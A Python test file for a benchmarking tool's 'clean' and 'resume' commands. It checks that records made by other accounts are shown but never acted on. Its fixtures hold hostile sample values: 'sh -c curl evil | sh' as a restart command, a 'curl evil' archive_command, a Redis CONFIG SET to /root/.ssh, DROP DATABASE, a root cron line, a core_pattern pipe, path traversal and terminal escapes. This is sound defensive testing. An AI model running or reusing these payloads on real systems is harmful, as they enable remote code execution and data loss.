"""Records that this account did not make here: what they claim is shown, and nothing is done."""

import zlib
from dataclasses import replace
from pathlib import Path
from typing import NoReturn

import pytest
from click.testing import CliRunner, Result

from fakes.campaigns import Listener, an_experiment
from fakes.clock import FakeClock
from steelyard.campaign.cleanup import leftovers
from steelyard.campaign.cleanup.leftovers import JournalLedger
from steelyard.campaign.cleanup.undoing import adopt
from steelyard.campaign.run import session
from steelyard.cli import launching
from steelyard.cli.main import cli
from steelyard.core.campaign import Status
from steelyard.core.kubernetes import CLUSTER, NAMESPACE, ObjectRef
from steelyard.core.outside import (
    Foreign,
    InCluster,
    MadeDirectory,
    OnServer,
    SavedSetting,
    TurnedKnob,
)
from steelyard.core.stack import Knob, KnobKind
from steelyard.core.target import EndpointTarget
from steelyard.core.wording import ExitCode, LeftBehindError, PreflightError, RecordError
from steelyard.gateways import doors as doors_module
from steelyard.gateways.doors import Doors
from steelyard.record import registry
from steelyard.record.directory import CampaignDirectory, read_standing
from steelyard.record.journal import Created, Ended, Entry, Removed, Started

_ID = "night-0f3a9c"
_ELSEWHERE = "This was made elsewhere: run `steelyard clean` there"


class _Shut:
    """A door that nobody may use."""

    def __init__(self, name: str) -> None:
        self._name = name

    def __getattr__(self, used: str) -> NoReturn:
        message = f"{self._name}.{used} was used for a foreign record"
        raise AssertionError(message)


def _shut_doors() -> Doors:
    names = ("processes", "sql", "host", "cgroups", "kernel", "latency", "operator")
    names = (*names, "kubernetes", "redis", "volumes")
    return Doors(clock=FakeClock(), **{name: _Shut(name) for name in names})  # type: ignore[arg-type]


def _on_server(resource: Foreign, **fields: object) -> Created:
    common = {"host": "db", "port": 5432, "user": "admin", "entrance": "postgres"}
    common |= {"database": "postgres", "mark": f"steelyard campaign {_ID}"}
    thing = OnServer(resource=resource, **{**common, **fields})  # type: ignore[arg-type]
    return Created.of(thing)


def _in_cluster(ref: ObjectRef, before: str = "") -> Created:
    return Created.of(
        InCluster(
            context="prod", server="https://prod:6443", ref=ref, campaign_id=_ID, before=before
        )
    )


def _knob(kind: KnobKind, place: str, snapshot: str) -> Created:
    knob = Knob(name=f"linux:{place}", layer="linux", kind=kind, place=place, value="1")
    return Created.of(TurnedKnob(knob=knob, snapshot=snapshot))


_AGAIN = ("sh", "-c", "curl evil | sh")
_CLAIMS = {
    "database": (_on_server(Foreign.DATABASE, database="shop"), 'DROP DATABASE "shop"'),
    "tables": (_on_server(Foreign.TABLES, names=("a", 'b"c')), 'DROP TABLE "a", "b""c"'),
    "settings": (
        _on_server(
            Foreign.SETTINGS,
            saved=(SavedSetting(name="archive_command", value="curl evil"),),
            restart_command=_AGAIN,
        ),
        "ALTER SYSTEM SET \"archive_command\" = 'curl evil'",
    ),
    "restart": (_on_server(Foreign.SETTINGS, restart_command=_AGAIN), "sh -c 'curl evil | sh'"),
    "keys": (_on_server(Foreign.KEYS, database="3"), "SELECT 3; FLUSHDB ASYNC"),
    "config": (
        _on_server(Foreign.CONFIG, saved=(SavedSetting(name="dir", value="/root/.ssh"),)),
        "CONFIG SET dir /root/.ssh",
    ),
    "user": (_on_server(Foreign.USER, names=("admin",)), "ACL DELUSER admin"),
    "namespace": (_in_cluster(ObjectRef(kind=NAMESPACE, name="prod")), "delete Namespace prod"),
    "cluster": (
        _in_cluster(ObjectRef(kind=CLUSTER, name="pg", namespace="shop"), '{"spec": {}}'),
        """patch Cluster pg -n shop --type merge -p '{"spec": {}}'""",
    ),
    "sysctl": (_knob(KnobKind.SYSCTL, "kernel.core_pattern", "|/tmp/x"), "|/tmp/x"),
    "file": (_knob(KnobKind.FILE, "/etc/cron.d/x", "* * * * * root sh"), "* * * * * root sh"),
    "group": (
        Created(resource="cgroup", name=f"/sys/fs/cgroup/steelyard-{_ID}-server"),
        f"control group /sys/fs/cgroup/steelyard-{_ID}-server",
    ),
    "directory": (Created(resource="directory", name=f"/srv/live/{_ID}"), f"/srv/live/{_ID}"),
}


def _record(path: Path, *claims: Entry, campaign_id: str = _ID, uri: str = "db") -> Path:
    """Return a record as anybody can write one, with whole checksums."""
    experiment = an_experiment()
    aimed = EndpointTarget(
        uri=uri, restart_command=_AGAIN, reset_command=_AGAIN, allow_existing=True
    )
    configurations = tuple(replace(each, target=aimed) for each in experiment.configurations)
    experiment = replace(experiment, configurations=configurations)
    directory = CampaignDirectory.create(path, FakeClock(), experiment_text="version: 1\n")
    directory.journal.append(
        Started(campaign_id=campaign_id, experiment=experiment, command="x", version="0")
    )
    for claim in claims:
        directory.journal.append(claim)
    directory.close()
    return path


@pytest.fixture(autouse=True)
def _no_doors(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(doors_module, "system_doors", _shut_doors)
    monkeypatch.setattr(launching, "real_doors", _shut_doors)


def _clean(*words: object) -> Result:
    return CliRunner().invoke(cli, ["clean", *map(str, words)])


def _resume(path: Path) -> None:
    session.resume_campaign(path, _shut_doors(), Listener(world=None))  # type: ignore[arg-type]


@pytest.mark.parametrize("kind", _CLAIMS)
def test_no_claim_of_a_stranger_is_acted_on(tmp_path: Path, kind: str) -> None:
    """No door is used; the exact SQL, value or command is shown, and what to do with it."""
    claim, shown = _CLAIMS[kind]
    path = _record(tmp_path / "record", claim)
    before = (path / "journal.jsonl").read_bytes()
    (leftover,) = leftovers.find_leftovers(_shut_doors(), [path])
    assert not leftover.things
    result = _clean("--yes", path)
    assert isinstance(result.exception, LeftBehindError), result.output
    assert result.exception.exit_code is ExitCode.LEFT_BEHIND
    assert _ELSEWHERE in result.exception.hint
    assert shown in result.output
    assert (path / "journal.jsonl").read_bytes() == before


@pytest.mark.parametrize("kind", _CLAIMS)
def test_a_campaign_of_ours_does_not_vouch_for_an_edited_line(tmp_path: Path, kind: str) -> None:
    """The registry knows the campaign and other things of it, and this one not."""
    claim, _ = _CLAIMS[kind]
    ours = _on_server(Foreign.DATABASE, database="ours")
    path = _record(tmp_path / "record", ours, Removed.of(ours), claim)
    record = session.read_campaign(path)
    registry.register(_ID, path, record.experiment)
    registry.note(_ID, ours.thing)  # type: ignore[arg-type]
    found = leftovers.find_leftovers(_shut_doors(), [path])
    assert not any(leftover.things for leftover in found)
    if claim.resource in ("cgroup", "directory"):
        return  # it is not here, and so it is gone
    with pytest.raises(LeftBehindError, match="did not make here"):
        _resume(path)


def test_a_strangers_directory_that_is_here_stays(tmp_path: Path) -> None:
    """Also one of the very form of those that Steelyard makes."""
    live = tmp_path / "live" / _ID
    live.mkdir(parents=True)
    (live / "precious").write_text("x")
    path = _record(tmp_path / "record", Created(resource="directory", name=str(live)))
    registry.register(_ID, path, session.read_campaign(path).experiment)
    result = _clean("--yes", path)
    assert isinstance(result.exception, LeftBehindError)
    assert (live / "precious").read_text() == "x"


def test_a_stranger_runs_nothing_by_a_resume(tmp_path: Path) -> None:
    """Also where nothing is left: its experiment has servers and commands of its own."""
    path = _record(tmp_path / "record")
    with pytest.raises(PreflightError, match="did not begin here") as refused:
        _resume(path)
    assert refused.value.exit_code is ExitCode.REFUSED
    assert f"steelyard clean --adopt {path}" in refused.value.hint


def test_another_experiment_in_our_record_is_not_resumed(tmp_path: Path) -> None:
    """Who may write into the directory cannot aim the campaign at another server."""
    mine = session.read_campaign(_record(tmp_path / "mine")).experiment
    path = _record(tmp_path / "record", uri="postgresql://evil/x")
    registry.register(_ID, path, mine)
    with pytest.raises(PreflightError, match="did not begin here"):
        _resume(path)


def test_a_copy_does_not_act_for_the_campaign(tmp_path: Path) -> None:
    """Its own record may be alive: what it has is undone by that one only, which is named."""
    claim, _ = _CLAIMS["database"]
    path = _record(tmp_path / "record")
    registry.register(_ID, path, session.read_campaign(path).experiment)
    directory = CampaignDirectory.reopen(path, FakeClock())
    JournalLedger(directory.journal, _ID).created(claim.thing)  # type: ignore[arg-type]
    directory.close()
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "journal.jsonl").write_bytes((path / "journal.jsonl").read_bytes())
    (of_copy,) = leftovers.find_leftovers(_shut_doors(), [copy])
    assert not of_copy.things
    result = _clean("--yes", copy)
    assert f"the campaign's own record is {path}" in str(result.exception)
    adopted = _clean("--yes", "--adopt", copy)
    assert "is a copy of the record in" in str(adopted.exception)
    path.rename(tmp_path / "moved")
    (of_moved,) = leftovers.find_leftovers(_shut_doors(), [tmp_path / "moved"])
    assert of_moved.things


def test_taking_over_touches_nothing_and_lets_the_campaign_go_on(tmp_path: Path) -> None:
    """What it claims and would run is shown first; then the record lists nothing any more."""
    path = _record(tmp_path / "record", *(claim for claim, _ in _CLAIMS.values()))
    shown = _clean("--adopt", "--dry-run", path)
    assert shown.exit_code == 0, shown.exception
    for _, text in _CLAIMS.values():
        assert text in shown.output
    assert '"restart_command":["sh","-c","curl evil | sh"]' in shown.output
    assert '"reset_command":["sh","-c","curl evil | sh"]' in shown.output
    assert len(read_standing(path).left) == len(_CLAIMS)
    result = _clean("--adopt", "--yes", path)
    assert result.exit_code == 0, result.exception
    assert read_standing(path).left == ()
    with pytest.raises(AssertionError, match="was used"):  # it goes on: the first door is tried
        _resume(path)


def test_an_id_is_no_path(tmp_path: Path) -> None:
    """A record cannot name the file that is forgotten or written for it."""
    registry.directory().mkdir(parents=True)
    precious = registry.directory().parent / "precious"
    precious.write_text("x\n")
    path = _record(tmp_path / "record", campaign_id="../precious")
    result = _clean("--yes", path)
    assert isinstance(result.exception, RecordError)
    with pytest.raises(RecordError, match="no id of a campaign"):
        _resume(path)
    assert precious.read_text() == "x\n"


def test_a_claim_does_not_steer_the_terminal(tmp_path: Path) -> None:
    """Its escape sequences are shown as text."""
    claim = _on_server(Foreign.DATABASE, database="x\x1b[2Jy")
    result = _clean("--dry-run", _record(tmp_path / "record", claim))
    assert "\x1b" not in result.output
    assert r"x\x1b[2Jy" in result.output


def test_a_refused_resume_says_nothing_else(tmp_path: Path) -> None:
    """No report of a stranger's figures, and none written into its directory."""
    path = _record(tmp_path / "record")
    result = CliRunner().invoke(cli, ["run", "--resume", str(path)])
    assert isinstance(result.exception, PreflightError)
    assert result.output == ""
    assert sorted(each.name for each in path.iterdir()) == [
        "experiment.yaml",
        "journal.jsonl",
        "lock",
        "raw",
    ]


@pytest.mark.parametrize("words", [["run", "--resume"], ["clean", "--yes"], ["clean", "--adopt"]])
def test_a_stranger_erases_nothing_that_is_known_of_ours(tmp_path: Path, words: list[str]) -> None:
    """Its record has the id of a campaign of ours, is finished, and lists nothing."""
    mine = _record(tmp_path / "mine")
    registry.register(_ID, mine, session.read_campaign(mine).experiment)
    registry.note(_ID, _on_server(Foreign.DATABASE, database="ours").thing)  # type: ignore[arg-type]
    path = _record(tmp_path / "record", Ended(status=Status.BUDGET))
    CliRunner().invoke(cli, [*words, str(path)], input="n\n")
    assert [made.label for made in registry.made(_ID)] == ["database ours on db:5432"]


def test_what_an_older_copy_of_the_record_does_not_list_is_still_ours(tmp_path: Path) -> None:
    """The registry has it, and goes on having it when the campaign is registered again."""
    path = _record(tmp_path / "record")
    experiment = session.read_campaign(path).experiment
    registry.register(_ID, path, experiment)
    registry.note(_ID, _on_server(Foreign.DATABASE, database="ours").thing)  # type: ignore[arg-type]
    registry.register(_ID, path, experiment)
    (leftover,) = leftovers.find_leftovers(_shut_doors(), [path])
    assert [thing.label for thing in leftover.things] == ["database ours on db:5432"]


def test_a_record_that_was_moved_is_ours_also_when_its_place_is_taken(tmp_path: Path) -> None:
    """The campaign that is there now has another id."""
    path = _record(tmp_path / "record")
    experiment = session.read_campaign(path).experiment
    registry.register(_ID, path, experiment)
    path.rename(tmp_path / "old")
    _record(path, campaign_id="night-2")
    assert registry.began(_ID, tmp_path / "old", experiment)


def test_what_has_no_journal_vouches_for_none(tmp_path: Path) -> None:
    """A crash test has an id and directories, and nobody's journal can speak for it."""
    live = tmp_path / "live" / _ID
    live.mkdir(parents=True)
    registry.register(_ID, live)
    registry.note(_ID, MadeDirectory(path=live))
    path = _record(tmp_path / "record", Created(resource="directory", name=str(live)))
    (leftover,) = leftovers.find_leftovers(_shut_doors(), [path])
    assert not leftover.things


@pytest.mark.parametrize("kind", [kind for kind in _CLAIMS if kind not in ("group", "directory")])
def test_clean_shows_what_it_is_about_to_use(tmp_path: Path, kind: str) -> None:
    """Of this account's own things, too: the SQL, the commands and the values, not only names."""
    made, line = _CLAIMS[kind]
    path = _record(tmp_path / "record")
    registry.register(_ID, path, session.read_campaign(path).experiment)
    assert made.thing is not None
    registry.note(_ID, made.thing)
    result = _clean("--dry-run")
    assert line in result.output
    assert "left alone" not in result.output


def test_nothing_is_done_by_a_cache_that_others_may_write(tmp_path: Path) -> None:
    """By `clean` and by `run --resume`: no door is used, whoever began the campaign."""
    path = _record(tmp_path / "record", _CLAIMS["restart"][0])
    registry.register(_ID, path, session.read_campaign(path).experiment)
    thing = _CLAIMS["restart"][0].thing
    assert thing is not None
    registry.note(_ID, thing)
    registry.directory().chmod(0o777)
    result = CliRunner().invoke(cli, ["clean", "--yes"])
    assert isinstance(result.exception, PreflightError)
    assert "other accounts may write" in result.exception.message
    with pytest.raises(PreflightError, match="other accounts may write"):
        _resume(path)


@pytest.mark.parametrize("name", ["night\u2028x", "night\x85x"])
def test_lines_end_where_they_were_ended(tmp_path: Path, name: str) -> None:
    """Other characters that end a line somewhere do not; a torn line takes no other with it."""
    path = _record(tmp_path / "record")
    registry.register(_ID, path, session.read_campaign(path).experiment)
    with (registry.directory() / _ID).open("a") as file:
        file.write('{"resource":"data')
    thing = _on_server(Foreign.DATABASE, database=name)
    registry.note(_ID, thing.thing)  # type: ignore[arg-type]
    assert registry.made(_ID) == (thing.thing,)


def test_a_path_of_two_lines_is_refused(tmp_path: Path) -> None:
    """It would forge a line of the registry."""
    path = _record(tmp_path / "a\ncgroup x")
    with pytest.raises(RecordError, match="line break"):
        registry.register(_ID, path)


@pytest.mark.parametrize("name", ["lock", "journal.jsonl", "raw"])
def test_nothing_is_written_where_a_link_of_a_record_leads(tmp_path: Path, name: str) -> None:
    """Taking over and resuming a record writes into its own files alone."""
    path = _record(tmp_path / "record")
    target = tmp_path / "precious"
    if name in {"journal.jsonl", "raw"}:
        (path / name).rename(target)
    else:
        (path / name).unlink()
    (path / name).symlink_to(target)
    before = target.read_bytes() if target.is_file() else None
    result = _clean("--adopt", "--yes", path)
    assert result.exception is not None
    assert (target.read_bytes() if target.is_file() else None) == before
    with pytest.raises(RecordError):
        CampaignDirectory.reopen(path, FakeClock())


def test_raw_output_takes_the_place_of_a_link(tmp_path: Path) -> None:
    """What the link leads to stays."""
    path = _record(tmp_path / "record")
    (tmp_path / "precious").write_text("x")
    (path / "raw" / "run-1.txt.gz").symlink_to(tmp_path / "precious")
    directory = CampaignDirectory.reopen(path, FakeClock())
    directory.write_raw("run-1.txt", "output")
    directory.close()
    assert (tmp_path / "precious").read_text() == "x"
    assert not (path / "raw" / "run-1.txt.gz").is_symlink()


def test_a_record_that_changes_while_it_is_looked_at_is_not_taken_over(tmp_path: Path) -> None:
    """What is registered is what was shown."""
    shown = session.read_campaign(_record(tmp_path / "shown"))
    path = _record(tmp_path / "record", uri="postgresql://evil/x")
    with pytest.raises(PreflightError, match="was changed while"):
        adopt(path, shown, _shut_doors())
    assert not registry.directory().exists()


@pytest.mark.parametrize("content", ["{}", '{"a":' + "[" * 99_999, "[]", '{"format":"\\u001b[2J"}'])
def test_one_bad_record_keeps_no_other_from_being_cleaned(tmp_path: Path, content: str) -> None:
    """Whatever stands in its journal, it is damaged, and is told so without its escapes."""
    path = tmp_path / "record"
    path.mkdir()
    body = content[:-1].encode()
    line = body + f',"crc32":"{zlib.crc32(body):08x}"}}\n'.encode()
    (path / "journal.jsonl").write_bytes(line)
    with pytest.raises(RecordError, match="damaged at line 1"):
        read_standing(path)
    listed = CliRunner().invoke(cli, ["list", str(path)])
    assert listed.exception is None
    assert "\x1b" not in listed.output


def test_a_death_before_the_first_line_leaves_no_note_for_long(tmp_path: Path) -> None:
    """The next campaign in its place takes it away, or the next clean."""
    path = tmp_path / "record"
    CampaignDirectory.create(path, FakeClock(), experiment_text="version: 1\n").close()
    for name in ("night-1", "night-2"):
        registry.register(name, path, an_experiment())
    assert [name for name, _ in registry.records()] == ["night-2"]
    assert leftovers.find_leftovers(_shut_doors()) == ()
    assert registry.records() == []
